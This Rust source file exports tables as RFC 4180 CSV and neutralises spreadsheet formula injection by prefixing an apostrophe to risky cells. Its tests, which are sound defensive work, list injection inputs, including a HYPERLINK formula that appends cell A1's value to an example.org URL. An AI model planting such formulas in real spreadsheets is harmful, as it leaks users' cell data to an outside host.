//! Comma-separated values as RFC 4180 writes them, with a mark in front by which Excel knows that they are UTF-8.

use super::table::{Table, is_like_a_formula};

/// The table as text.
pub(super) fn write(table: &Table) -> String {
    let mut text = String::from('\u{feff}');
    for cells in std::iter::once(&table.columns).chain(&table.rows) {
        let line: Vec<String> = cells.iter().map(|cell| quoted(cell)).collect();
        text.push_str(&line.join(","));
        text.push_str("\r\n");
    }
    text
}

/// A cell between quotes where it needs them. What could be a formula begins with an apostrophe: programs for tables show it
/// as text then.
pub(crate) fn quoted(cell: &str) -> String {
    let apostrophe = if is_like_a_formula(cell) { "'" } else { "" };
    match cell.contains(['"', ',', ';', '\t', '\r', '\n']) {
        true => format!("\"{apostrophe}{}\"", cell.replace('"', "\"\"")),
        false => format!("{apostrophe}{cell}"),
    }
}

#[cfg(test)]
pub(super) mod tests {
    #![allow(clippy::unwrap_used)]

    use proptest::prelude::*;

    use super::*;

    /// What people could type who want a table to do something.
    pub(crate) const NAMES: [&str; 14] = [
        "=1+1",
        "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "Ann \"the, boss\"; Example\nof two lines",
    ];

    /// The cells, as a reader that knows nothing of this program finds them.
    fn read(text: &str) -> Vec<Vec<String>> {
        let text = text.strip_prefix('\u{feff}').unwrap();
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    fn table(names: &[&str]) -> Table {
        let row = |name: &&str| vec![(*name).to_owned(), "x".to_owned()];
        Table {
            columns: vec!["Name".into(), "Own, \"question\"".into()],
            rows: names.iter().map(row).collect(),
        }
    }

    #[test]
    fn nothing_anybody_types_is_a_formula() {
        let text = write(&table(&NAMES));
        assert!(text.starts_with("\u{feff}Name,\"Own, \"\"question\"\"\"\r\n"), "{text}");
        let rows = read(&text);
        assert_eq!(rows.len(), NAMES.len() + 1);
        for (row, name) in rows[1..].iter().zip(NAMES) {
            let expected = if name.starts_with("Ann") { name.to_owned() } else { format!("'{name}") };
            assert_eq!(row[0], expected);
        }
    }

    proptest! {
        #[test]
        fn every_cell_comes_back(cells in prop::collection::vec(any::<String>(), 1..20)) {
            let names: Vec<&str> = cells.iter().map(String::as_str).collect();
            let rows = read(&write(&table(&names)));
            prop_assert_eq!(rows.len(), cells.len() + 1);
            for (row, cell) in rows[1..].iter().zip(&cells) {
                let as_text = ["'", cell].concat();
                prop_assert!(row[0] == *cell || row[0] == as_text);
                prop_assert!(!row[0].starts_with(['=', '+', '-', '@', '\t', '\r']));
            }
        }
    }
}
